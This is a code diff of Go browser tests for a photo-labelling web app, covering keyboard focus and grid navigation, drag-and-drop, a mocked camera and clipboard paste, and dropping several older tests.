-		assert.NotEqual(t, "none", eval[string](p, `(() => { const e = document.activeElement; return getComputedStyle(e.matches(".segments input") ? e.nextElementSibling : e).outlineStyle })()`), "%s: focus is visible", want)
+		assert.NotEqual(t, "none", eval[string](p, `(() => { const e = document.activeElement; return getComputedStyle(e.id === "grid" ? e.querySelector(".active") : e).outlineStyle })()`), "%s: focus is visible", want)
 	}
 
 	tab("skip")
+	tab("labels-open")
+	tab("model-open")
+	tab("help-open")
+	tab("privacy-open")
+	p.press(kb.Enter)
+	p.waitFor(`document.querySelector("#privacy").open`)
+	p.press(kb.Escape)
+	require.Equal(t, "privacy-open", at(), "the focus goes back")
 	tab("choose")
 	_, err := chromedp.Call(p.ctx, cdppage.SetInterceptFileChooserDialog, cdppage.SetInterceptFileChooserDialogParams{Enabled: true})
 	require.NoError(t, err)
 	opened := chromedp.Events(p.ctx, cdppage.FileChooserOpened)
-	press(kb.Enter)
+	p.press(kb.Enter)
 	for chooser, err := range opened {
 		require.NoError(t, err)
 		_, err = chromedp.Call(p.ctx, dom.SetFileInputFiles, dom.SetFileInputFilesParams{Files: threePhotos(t), BackendNodeID: chooser.BackendNodeID})
 		require.NoError(t, err)
 		break
 	}
-	p.waitFor(`document.querySelectorAll(".card").length === 3`)
-	before := p.answers()
-
-	tab("ecor")
-	press(kb.ArrowRight)
-	require.Equal(t, "clip", at())
-	assert.NotEqual(t, before, p.answers(), "the arrow chooses")
-	tab("labels")
-	press(kb.Enter)
-	tab("label-search")
-	press("forest")
-	tab("forest")
-	press(" ")
-	assert.Equal(t, "forest", eval[string](p, `document.querySelector("#label-name").value`))
-	tab("label-add")
-	tab("label-name")
-	press("wood")
-	tab("label-rationales")
-	tab("label-remove")
-	tab("label-apply")
-	press(kb.Enter)
-	p.waitApplied()
+	p.waitTiles(3)
 	p.waitIdle()
+	require.Equal(t, "grid", at(), "where the photos are")
+	active := func() string {
+		return eval[string](p, `document.getElementById(document.querySelector("#grid").getAttribute("aria-activedescendant")).querySelector(".name").textContent + document.querySelector(".detail .file").textContent`)
+	}
+	first := active()
+	p.press(kb.ArrowRight)
+	assert.NotEqual(t, first, active())
+	p.press(kb.End)
+	assert.Contains(t, active(), "walk.jpeg")
+	p.press(kb.Home)
+	assert.Equal(t, first, active())
 
-	p.do(`document.querySelector("#clear").focus()`)
-	tab("remove")
-	tab("card")
-	press(kb.Enter)
-	assert.True(t, eval[bool](p, `document.querySelector(".card details").open`))
-	p.do(`document.querySelector(".card .remove").focus()`)
-	press(kb.Enter)
-	assert.Len(t, p.texts(".card .file"), 2)
-	require.Equal(t, "remove", at(), "the focus stays in the list")
+	// Large, with arrows and decisions.
+	p.press(kb.Enter)
+	p.waitFor(`document.querySelector("#big").open`)
+	p.press(kb.ArrowRight)
+	assert.Equal(t, "evening.jpg", p.text("#big .file"))
+	p.press("f")
+	assert.Equal(t, "walk.jpeg", p.text("#big .file"), "goes on")
+	p.save("big")
+	p.press(kb.Escape)
+	require.Equal(t, "grid", at())
+	assert.Equal(t, "flag", eval[string](p, `document.querySelector("[data-index='1']").dataset.decision`))
+
+	p.press("/")
+	require.Equal(t, "search", at())
+	p.set("#search", "walk")
+	p.waitTiles(1)
+	p.do(`document.querySelector("#grid").focus()`)
+	tab("side")
 	assert.Empty(t, p.complaints())
 }
 
-// TestLargePhoto sends 48 million pixels, 192 MB as RGBA, into a module that
-// keeps a few rows of them.
-func TestLargePhoto(t *testing.T) {
-	const width, height = 8000, 6000
-	m := image.NewYCbCr(image.Rect(0, 0, width, height), image.YCbCrSubsampleRatio420)
-	for i := range m.Y {
-		m.Y[i] = byte(i / width / 24)
+// drop drags files over the page and lets go.
+func (p *page) drop(files ...string) {
+	p.t.Helper()
+	drag := func(kind input.DispatchDragEventType) {
+		_, err := chromedp.Call(p.ctx, input.DispatchDragEvent, input.DispatchDragEventParams{
+			Type: kind, X: 300, Y: 300, Data: &input.DragData{Items: []*input.DragDataItem{}, Files: files, DragOperationsMask: 1},
+		})
+		p.check(err)
 	}
-	for i := range m.Cb {
-		m.Cb[i], m.Cr[i] = byte(i%(width/2)/16), 140
-	}
-	file := filepath.Join(t.TempDir(), "large.jpg")
-	f, err := os.Create(file)
-	require.NoError(t, err)
-	require.NoError(t, jpeg.Encode(f, m, nil))
-	require.NoError(t, f.Close())
+	drag(input.DispatchDragEventTypeDragEnter)
+	p.waitFor(`!document.querySelector("#dropping").hidden`)
+	drag(input.DispatchDragEventTypeDragOver)
+	drag(input.DispatchDragEventTypeDrop)
+}
 
+// TestDrop drops files on the page.
+func TestDrop(t *testing.T) {
 	p := newPage(t)
 	p.open(tinySite(t).URL)
-	p.worker().do(`{
-		const set = Uint8Array.prototype.set;
-		Uint8Array.prototype.set = function (...a) { globalThis.moduleBytes = this.buffer.byteLength; return set.apply(this, a); };
+	p.drop(threePhotos(t)...)
+	p.waitTiles(3)
+	p.waitIdle()
+	assert.True(t, eval[bool](p, `document.querySelector("#dropping").hidden`))
+	assert.Contains(t, p.tiles()[0], "because")
+	assert.Empty(t, p.complaints())
+}
+
+// TestPaste takes what the clipboard has, and TestCamera a snapshot of a
+// camera that the test makes.
+func TestCamera(t *testing.T) {
+	p := newPage(t)
+	p.open(tinySite(t).URL)
+	assert.True(t, eval[bool](p, `document.featurePolicy.allowsFeature("camera")`), "for this page alone")
+	p.do(`navigator.mediaDevices.getUserMedia = async () => { throw new DOMException("no", "NotAllowedError"); }`)
+	p.click("#use-camera")
+	p.waitFor(`document.querySelector("#camera .error").textContent.includes("may not be used")`)
+	p.press(kb.Escape)
+	p.do(`{
+		const canvas = Object.assign(document.createElement("canvas"), { width: 320, height: 200 });
+		const context = canvas.getContext("2d");
+		let n = 0;
+		setInterval(() => { context.fillStyle = n++ % 2 ? "#2a6" : "#2b6"; context.fillRect(0, 0, 320, 200); }, 30);
+		navigator.mediaDevices.getUserMedia = async () => (globalThis.stream = canvas.captureStream(30));
 	}`)
-	p.choose(file)
-	assert.Len(t, p.texts(".because"), 1, "%v", p.texts(".card .error"))
-	assert.Equal(t, "8000 × 6000", eval[string](p, `document.querySelector(".card img").title`))
-	bytes := eval[float64](p.worker(), `globalThis.moduleBytes`)
-	assert.Less(t, bytes, 64e6, "the module's memory in bytes")
-	t.Logf("%.1f MB, %s", bytes/1e6, p.text(".timings"))
-}
+	p.click("#use-camera")
+	p.waitFor(`!document.querySelector("#camera button.primary").disabled && document.querySelector("#camera video").videoWidth === 320`)
+	p.save("camera")
+	p.click("#camera button.primary")
+	p.waitTiles(1)
+	p.waitIdle()
+	assert.Regexp(t, `^camera [\d-]+ [\d.]+\.jpg: `, p.tiles()[0])
+	assert.Equal(t, "ended", eval[string](p, `stream.getTracks()[0].readyState`), "the camera is off")
 
-// contrasts returns the text elements whose contrast with what is behind them
-// is below WCAG's AA, 4.5 to 1, or 3 to 1 for large text. Disabled controls are exempt.
-const contrasts = `(() => {
-	const channels = (color) => color.match(/[\d.]+/g).map(Number);
-	const luminance = ([r, g, b]) => [r, g, b].map((v) => v / 255).map((v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4))
-		.reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
-	const behind = (e) => { for (; e; e = e.parentElement) { const c = channels(getComputedStyle(e).backgroundColor); if (c.length < 4 || c[3] === 1) return c; } };
-	const low = [];
-	for (const e of document.querySelectorAll("body *")) {
-		const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim()) || e.matches("input:not([type=radio]), textarea");
-		if (!own || !e.checkVisibility() || e.disabled) continue;
-		const style = getComputedStyle(e);
-		const [a, b] = [luminance(channels(style.color)), luminance(behind(e))].sort((x, y) => y - x);
-		const large = parseFloat(style.fontSize) >= 24 || (parseFloat(style.fontSize) >= 18.66 && style.fontWeight >= 700);
-		const ratio = (a + 0.05) / (b + 0.05);
-		if (ratio < (large ? 3 : 4.5)) low.push(e.outerHTML.slice(0, 80) + " " + ratio.toFixed(2));
-	}
-	return low;
-})()`
-
-func TestContrast(t *testing.T) {
-	p := newPage(t)
-	p.open(tinySite(t).URL)
-	empty := filepath.Join(t.TempDir(), "empty.jpg")
-	require.NoError(t, os.WriteFile(empty, nil, 0o600))
-	p.choose(append(threePhotos(t), empty)...)
-	p.do(`for (const d of document.querySelectorAll("details")) d.open = true`)
-	p.set("#label-rationales", "a mane\na mane") // a mistake, for its message
-	require.NotEmpty(t, p.text("#label-problem"))
-	for _, scheme := range []string{"light", "dark"} {
-		p.view(1200, 4000, scheme)
-		p.run(chromedp.Sleep(400 * time.Millisecond)) // cards have arrived
-		assert.Empty(t, eval[[]string](p, contrasts), scheme)
-	}
-}
-
-// TestUpdate puts another version of the site on the server.
-func TestUpdate(t *testing.T) {
-	first := tinySite(t)
-	p := newPage(t)
-	p.open(first.URL)
-	version := func() string {
-		about := p.text("#about")
-		return strings.TrimSuffix(about[strings.LastIndex(about, " ")+1:], ".")
-	}
-	require.Equal(t, first.assets.Version, version())
-
-	weights := t.TempDir()
-	require.NoError(t, os.CopyFS(weights, os.DirFS(first.file("weights"))))
-	pack := strings.Replace(smallPack, `"zebra"`, `"striped horse"`, 1)
-	require.NoError(t, os.WriteFile(filepath.Join(weights, "small.json"), []byte(pack), 0o600))
-	require.NoError(t, os.Remove(filepath.Join(weights, "small.json.gz")))
-	second := serve(t, weights)
-	require.NotEqual(t, first.assets.Version, second.assets.Version)
-	first.Config.Handler = second.Config.Handler
-	chromium.proxy.take()
-
-	// The old version goes on, whole, until its last tab is closed.
-	p.run(chromedp.Reload())
-	p.waitFor(`document.querySelector("#offline").textContent.includes("new version")`)
-	p.waitFor(`document.body.dataset.model === "ready"`)
-	assert.Equal(t, first.assets.Version, version())
-	p.run(chromedp.Navigate("about:blank"))
-	p.waitFor(`location.href === "about:blank"`)
-	for end := time.Now().Add(waitTimeout); ; {
-		p.open(first.URL)
-		if version() == second.assets.Version {
-			break
-		}
-		require.True(t, time.Now().Before(end), "still version %s", version())
-		p.run(chromedp.Navigate("about:blank"), chromedp.Sleep(200*time.Millisecond))
-	}
-	assert.Contains(t, p.texts("#label-list button"), "striped horse")
-	for _, request := range chromium.proxy.take() {
-		assert.NotContains(t, request, "tiny.safetensors", "what has not changed is not fetched again")
-	}
-	assert.Len(t, eval[[]string](p, `caches.keys()`), 1, "the old version is gone")
+	p.do(`{
+		const data = new DataTransfer();
+		data.items.add(new File([Uint8Array.fromBase64 ? new Uint8Array(3) : new Uint8Array(3)], "note.png", { type: "image/png" }));
+		document.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
+	}`)
+	p.waitTiles(2)
+	assert.Contains(t, p.tiles()[1], "note.png: This is not a")
 	assert.Empty(t, p.complaints())
 }
